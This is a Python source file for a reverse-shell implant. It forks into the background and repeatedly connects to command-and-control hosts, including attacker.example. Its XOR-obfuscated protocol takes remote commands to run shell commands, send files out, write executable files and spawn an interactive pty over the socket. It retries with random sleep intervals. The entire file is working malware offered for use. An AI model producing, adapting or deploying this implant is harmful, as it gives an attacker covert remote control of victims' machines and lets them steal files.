# technique: full-featured reverse-shell implant with upload/download/shell/sysinfo commands, XOR-obfuscated framing and reconnect jitter
"""
mini implant -- connects back, speaks a tiny length-prefixed protocol.
commands:
    sysinfo            -> host details
    shell <cmd>        -> run through /bin/sh
    cd <dir>           -> change directory
    get <path>         -> send file contents
    put <path> <b64>   -> write file
    pty                -> hand over an interactive pty (dup2 + pty.spawn)
    die                -> exit
"""
import base64
import os
import platform
import pty
import random
import socket
import struct
import subprocess
import sys
import time

C2_HOSTS = [("10.77.0.2", 443), ("attacker.example", 8443), ("203.0.113.200", 53)]
KEY = b"\x13\x37\xc0\xde"
SLEEP_MIN, SLEEP_MAX = 20, 90


def xor(data):
    return bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(data))


def send_msg(sock, data):
    if isinstance(data, str):
        data = data.encode()
    body = xor(data)
    sock.sendall(struct.pack("!I", len(body)) + body)


def recv_exact(sock, n):
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def recv_msg(sock):
    (n,) = struct.unpack("!I", recv_exact(sock, 4))
    return xor(recv_exact(sock, n)).decode(errors="replace")


def sysinfo():
    fields = {
        "host": socket.gethostname(),
        "user": os.getenv("USER") or str(os.getuid()),
        "uid": os.getuid(),
        "cwd": os.getcwd(),
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "container": os.path.exists("/.dockerenv") or os.path.exists("/run/secrets/kubernetes.io"),
    }
    return "\n".join("%s=%s" % kv for kv in fields.items())


def run_shell(cmd):
    try:
        p = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, timeout=300)
        return p.stdout.decode(errors="replace") or "(no output)"
    except subprocess.TimeoutExpired:
        return "timeout"


def handle(sock):
    send_msg(sock, "HELLO " + sysinfo().replace("\n", ";"))
    while True:
        line = recv_msg(sock)
        verb, _, arg = line.partition(" ")
        if verb == "sysinfo":
            send_msg(sock, sysinfo())
        elif verb == "shell":
            send_msg(sock, run_shell(arg))
        elif verb == "cd":
            try:
                os.chdir(arg or os.path.expanduser("~"))
                send_msg(sock, os.getcwd())
            except OSError as e:
                send_msg(sock, "err: %s" % e)
        elif verb == "get":
            try:
                with open(arg, "rb") as fh:
                    send_msg(sock, base64.b64encode(fh.read()))
            except OSError as e:
                send_msg(sock, "err: %s" % e)
        elif verb == "put":
            path, _, b64 = arg.partition(" ")
            try:
                with open(path, "wb") as fh:
                    fh.write(base64.b64decode(b64))
                os.chmod(path, 0o755)
                send_msg(sock, "ok")
            except (OSError, ValueError) as e:
                send_msg(sock, "err: %s" % e)
        elif verb == "pty":
            send_msg(sock, "spawning pty")
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
            pty.spawn("/bin/bash")
            return
        elif verb == "die":
            send_msg(sock, "bye")
            sys.exit(0)
        else:
            send_msg(sock, "unknown")


def main():
    if os.fork() != 0:
        os._exit(0)
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    while True:
        host, port = random.choice(C2_HOSTS)
        try:
            s = socket.create_connection((host, port), timeout=15)
            s.settimeout(None)
            handle(s)
        except SystemExit:
            raise
        except Exception:
            pass
        time.sleep(random.randint(SLEEP_MIN, SLEEP_MAX))


if __name__ == "__main__":
    main()
